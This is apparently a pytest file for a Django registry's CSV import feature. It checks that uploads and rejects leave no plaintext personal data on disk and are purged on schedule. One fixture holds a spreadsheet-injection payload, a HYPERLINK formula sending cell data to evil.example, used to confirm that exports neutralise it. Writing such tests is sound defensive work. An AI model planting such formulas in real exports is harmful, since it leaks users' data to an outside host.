"""What imports leave on the server's disk: uploads and rejects sealed, uploads gone when the
job ends (done or failed), rejects deleted after the retention period, no formula in rejects."""

from __future__ import annotations

import datetime as dt
import tempfile
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import timezone

from qorgau.accounts.roles import Role
from qorgau.conftest import ABAI
from qorgau.registry.importing import engine, jobs
from qorgau.registry.models import ImportJob
from qorgau.registry.tests.test_import_helpers import incident_row, write_csv

pytestmark = pytest.mark.django_db

NAME = "Zhanbyrbayeva"
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"open")'


@pytest.fixture(autouse=True)
def _inline_jobs(settings, tmp_path: Path) -> None:
    settings.QORGAU_IMPORTS_IN_BACKGROUND = False
    settings.VAR_DIR = tmp_path / "var"


def _typo(iin: str) -> str:
    """The IIN with a wrong check digit: rejected, and kept as typed in the rejects."""
    return iin[:-1] + str((int(iin[-1]) + 1) % 10)


def _rows() -> list[dict[str, str]]:
    good, bad = incident_row(1), incident_row(2)
    bad["victim_iin"] = _typo(bad["victim_iin"])
    formula = incident_row(3, offender_iin=FORMULA)
    for row in (good, bad, formula):
        row["victim_name"] = NAME  # an unknown column: ignored, but it is in the upload
    return [good, bad, formula]


def _upload(tmp_path: Path, rows: list[dict[str, str]], name: str = "incidents.csv"):
    return SimpleUploadedFile(name, write_csv(tmp_path / name, rows).read_bytes())


def _plaintext_under_var(settings, needles: list[str]) -> list[str]:
    found = []
    for path in Path(settings.VAR_DIR).rglob("*"):
        if path.is_file():
            content = path.read_bytes()
            found += [f"{path.name}: {n}" for n in needles if n.encode() in content]
    return found


def _temporary_copies() -> set[str]:
    return {p.name for p in Path(tempfile.gettempdir()).glob("qorgau-import-*")}


def test_a_web_and_an_api_import_leave_no_plaintext_under_var(
    make_user, signed_in, tmp_path, settings, django_capture_on_commit_callbacks
):
    rows = _rows()
    needles = [NAME, rows[0]["victim_iin"], rows[1]["victim_iin"], rows[2]["victim_iin"]]
    client = signed_in(make_user(Role.DATA_CLERK, "000000000"))
    copies = _temporary_copies()
    with django_capture_on_commit_callbacks(execute=True):
        client.post(
            reverse("registry_import:upload"),
            {"kind": "incidents", "source": "kui", "file": _upload(tmp_path, rows)},
        )
        client.post(
            "/api/v1/imports/",
            {"kind": "incidents", "source": "kui2", "file": _upload(tmp_path, rows, "b.csv")},
        )
    assert list(ImportJob.objects.values_list("status", flat=True)) == ["done", "done"]
    assert _plaintext_under_var(settings, needles) == []
    assert _temporary_copies() == copies
    for job in ImportJob.objects.all():
        assert not Path(job.stored_path).exists()  # the upload went with the job

    job = ImportJob.objects.get(source="kui")
    download = client.get(reverse("registry_import:rejects", args=[job.pk]))
    body = b"".join(download.streaming_content).decode("utf-8-sig")
    assert rows[1]["victim_iin"] in body  # decrypted for the user who may read it
    assert "'" + FORMULA in body.replace('""', '"')  # quoted: a spreadsheet shows it as text


def test_a_failed_import_leaves_no_plaintext_under_var(
    make_user, signed_in, tmp_path, settings, django_capture_on_commit_callbacks, monkeypatch
):
    rows = _rows()
    client = signed_in(make_user(Role.DATA_CLERK, "000000000"))
    unreadable = [{"victim_name": NAME, "victim_iin": rows[0]["victim_iin"]}]

    def broken(*args, **kwargs):
        raise RuntimeError("database went away")

    with django_capture_on_commit_callbacks(execute=True):
        client.post(
            reverse("registry_import:upload"),
            {"kind": "incidents", "source": "a", "file": _upload(tmp_path, unreadable)},
        )
    monkeypatch.setattr(engine, "_process_batch", broken)
    with django_capture_on_commit_callbacks(execute=True):
        client.post(
            reverse("registry_import:upload"),
            {"kind": "incidents", "source": "b", "file": _upload(tmp_path, rows)},
        )
    assert list(ImportJob.objects.values_list("status", flat=True)) == ["failed", "failed"]
    assert _plaintext_under_var(settings, [NAME, rows[0]["victim_iin"]]) == []
    assert not any(Path(job.stored_path).exists() for job in ImportJob.objects.all())


def test_rejects_are_deleted_after_the_retention_period_but_never_a_users_own_file(
    make_user, tmp_path, settings
):
    settings.QORGAU_IMPORT_RETENTION_DAYS = 30
    clerk = make_user(Role.DATA_CLERK, ABAI)
    directory = jobs.upload_dir()
    directory.mkdir(parents=True)
    own = tmp_path / "mine.csv"
    old, recent, cli = (
        ImportJob.objects.create(kind="incidents", file_name="x.csv", source=s, created_by=clerk)
        for s in ("old", "recent", "cli")
    )
    paths = {
        old: engine.rejects_path_for(old),
        recent: engine.rejects_path_for(recent),
        cli: own,
    }
    finished = {old: 31, recent: 29, cli: 400}
    for job, path in paths.items():
        path.write_bytes(b"sealed")
        job.rejects_path, job.status = str(path), ImportJob.Status.DONE
        job.finished_at = timezone.now() - dt.timedelta(days=finished[job])
        job.save()

    assert jobs.imports_purge() == 1
    assert not paths[old].exists() and paths[recent].exists() and own.exists()
    old.refresh_from_db()
    assert old.rejects_path == ""
    assert jobs.imports_purge(now=timezone.now() + dt.timedelta(days=2)) == 1
    assert not paths[recent].exists() and own.exists()
